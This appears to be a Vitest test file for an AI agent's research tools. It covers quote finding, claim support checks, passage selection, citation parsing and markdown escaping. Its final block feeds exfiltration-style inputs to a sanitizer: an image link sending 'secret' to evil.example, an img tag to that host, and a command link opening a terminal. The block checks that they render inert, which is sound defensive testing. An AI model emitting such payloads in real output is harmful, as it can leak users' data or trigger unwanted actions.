import { describe, expect, it } from "vitest";
import { mdText } from "../../../../src/agent/research/markdown";
import { passages } from "../../../../src/agent/research/passages";
import { QuotableText, spanFragment, textAtFragment } from "../../../../src/agent/research/spans";
import { quoteSupport, valuesDiffer } from "../../../../src/agent/research/support";
import { citedSentences } from "../../../../src/agent/research/write";

describe("a quote's place", () => {
  const text = "One.\r\nThe bridge was\r\n  opened in “1931”, they say.\nEnd.";
  it("is found over line ends and typographic signs, and is the text's own words", () => {
    const found = new QuotableText(text).find('bridge was opened in "1931"');
    expect(found?.quote).toBe("bridge was\r\n  opened in “1931”");
    expect(found?.span).toMatchObject({ line: 2, column: 5, endLine: 3, endColumn: 19 });
  });
  it("is opened again by its fragment alone", () => {
    const found = new QuotableText(text).find("opened in “1931”");
    expect(textAtFragment(text, spanFragment(found!.span))).toBe(found?.quote);
    expect(textAtFragment(text, "L99,1-L99,2")).toBeUndefined();
  });
  it.each(["bridge was closed", "", "x", "THE BRIDGE WAS"])("is not made up for %j", (quote) => {
    expect(new QuotableText(text).find(quote)).toBeUndefined();
  });
});

describe("support by rule", () => {
  it.each([
    ["The bridge opened in 1931.", "In 1931 the bridge opened.", "holds"],
    ["It cost 4300000 crowns.", "It cost 4,300,000 crowns in all.", "holds"],
    ["The bridge opened in 1934.", "In 1931 the bridge opened.", "lacks"],
    ["The bridge opened in 1931.", "In 1931 the bridge was not opened.", "unknown"],
    ["Lusk drew it.", "Its designer was Lusk.", "unknown"],
  ])("%s | %s: %s", (claim, quote, expected) => expect(quoteSupport(claim, quote)).toBe(expected));
  it("knows the same said with another number", () => {
    expect(valuesDiffer("The span is 212 metres.", "The span is 221 metres.")).toBe(true);
    expect(valuesDiffer("The span is 212 metres.", "The deck is 38 metres high.")).toBe(false);
    expect(valuesDiffer("The span is 1,200 metres.", "The span is 1200 metres.")).toBe(false);
  });
});

describe("passages", () => {
  it("are the windows that speak of the question, in the text's order", () => {
    const text = `${"filler. ".repeat(200)}The ferry has two boats. ${"filler. ".repeat(200)}`;
    const found = passages(text, "How many boats has the ferry?", 500, 2);
    expect(found.join("")).toContain("two boats");
    expect(found.every((part) => part.length <= 500)).toBe(true);
  });
});

describe("sentences of an answer", () => {
  it("carry only their own marks", () => {
    expect(citedSentences("- Ships sail. [1] Boats row [2, 3]. All is well.\nIt rains. It pours [4].")).toEqual([
      { said: "Ships sail.", cited: [1] },
      { said: "Boats row", cited: [2, 3] },
      { said: "All is well.", cited: [] },
      { said: "It rains.", cited: [] },
      { said: "It pours", cited: [4] },
    ]);
  });
});

describe("text in a report", () => {
  it.each([
    "![x](https://evil.example/?q=secret)",
    "[click](command:workbench.action.terminal.new)",
    "<img src=https://evil.example/x>",
    "# heading\n- list\n> quote",
    "`code` **bold** ~~x~~ | table",
    "https://evil.example/ and www.evil.example",
  ])("stays text: %j", (text) => {
    const made = mdText(text);
    expect(made.replaceAll("&#58;", "")).not.toMatch(/(^|[^\\])[<>[\]()`*_#|~!]/);
    expect(made).not.toContain("\n");
    expect(made).not.toMatch(/https?:\/\//);
  });
});
